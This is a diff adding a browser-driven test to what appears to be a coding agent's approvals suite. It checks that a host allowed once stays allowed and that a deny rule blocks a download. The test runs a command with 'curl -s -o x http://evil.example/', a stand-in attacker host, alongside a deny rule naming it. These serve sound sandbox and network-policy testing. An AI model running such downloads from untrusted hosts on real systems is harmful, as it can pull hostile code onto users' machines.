@@ -2,9 +2,10 @@ import { existsSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { createLocalEnvironment } from "@codex/local";
-import { loadRulePolicy, type PolicyOptions } from "@codex/policy";
+import { createSandboxSelector, loadRulePolicy, type PolicyOptions } from "@codex/policy";
 import { createCommandSandbox } from "@codex/sandbox";
 import { describe, expect, it, onTestFinished } from "vitest";
+import { startRegistry } from "../../testkit/test/network/registry.js";
 import { noBrowser, openContext, openPage } from "./support/browser.js";
 import { openView, startSession } from "./support/orchestrators.js";
 
@@ -167,6 +168,27 @@ describe.skipIf(noBrowser !== undefined)("approvals", () => {
       await rule.press("Enter");
       expect((await removed).text).toContain("gone");
       expect(saved).toEqual(["rm -f made"]);
+    },
+  );
+
+  it.runIf(isSandboxed && existsSync("/usr/bin/nsenter") && existsSync("/usr/bin/curl"))(
+    "allow a host for good, and the card of the command shows what it reached and did not",
+    async () => {
+      await startRegistry();
+      const { page, approvals, run, saved } = await openAsking({
+        approvalPolicy: "on-request",
+        sandbox: createSandboxSelector({ mode: "workspace-write", networkAccess: true }),
+        network: { allowUpstreamProxy: true, rules: [{ pattern: "evil.example", decision: "deny" }] },
+      });
+      const fetched = run("curl -s http://registry.example/tiny; curl -s -o x http://evil.example/");
+      await approvals.getByText("registry.example:80").first().waitFor();
+      await approvals.getByRole("button", { name: "Accept always" }).click();
+      expect((await fetched).text).toContain('"tiny"');
+      expect(saved).toEqual(["registry.example"]);
+      const hosts = page.getByRole("region", { name: "Conversation" }).getByRole("list", { name: "Network" });
+      await hosts.getByText(/^registry\.example:80, sent \d+ bytes, received \d+ bytes$/).waitFor();
+      await hosts.getByText("evil.example:80 denied (evil.example)").waitFor();
+      expect((await run("curl -s http://registry.example/tiny")).text).toContain('"tiny"');
     },
   );
 
